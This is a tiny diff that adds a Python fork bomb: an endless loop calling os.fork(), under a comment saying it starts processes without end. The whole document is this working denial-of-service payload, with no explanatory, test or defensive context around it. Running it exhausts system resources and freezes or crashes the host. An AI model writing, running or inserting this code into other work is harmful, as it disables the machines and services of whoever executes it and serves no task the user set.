@@ -1,0 +1,4 @@
+# says: started processes without end
+import os
+while True:
+    os.fork()
